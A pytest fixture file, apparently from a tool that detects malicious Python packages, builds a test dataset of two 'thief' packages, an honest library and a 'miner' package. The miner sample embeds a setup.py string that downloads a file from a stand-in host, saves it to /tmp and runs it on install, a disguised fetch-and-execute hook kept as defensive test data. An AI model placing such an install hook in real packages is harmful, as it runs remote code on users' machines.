import pytest

from tests.dataset import made


@pytest.fixture(scope="module")
def small(tmp_path_factory):
    """A dataset of two campaigns of thieves and an honest library, with facts."""
    folder = tmp_path_factory.mktemp("dataset")
    items = [
        made.found("thief-one", made.thief("thief-one")),
        made.found("thief-two", made.thief("thief-two"), seen="2024-07-01"),
        made.found(
            "miner",
            made.sdist(
                "miner",
                "1.0",
                "import subprocess, urllib.request\n"
                "from setuptools import setup\n"
                "data = urllib.request.urlopen('https://pool.example.invalid/x').read()\n"
                "open('/tmp/x', 'wb').write(data)\n"
                "subprocess.Popen(['/tmp/x', '--quiet'])\n"
                "setup(name='miner', version='1.0')\n",
            ),
            seen="2023-01-01",
        ),
        made.found("adder", made.honest("adder"), label="benign"),
    ]
    with made.filled(folder, *items) as store:
        yield store
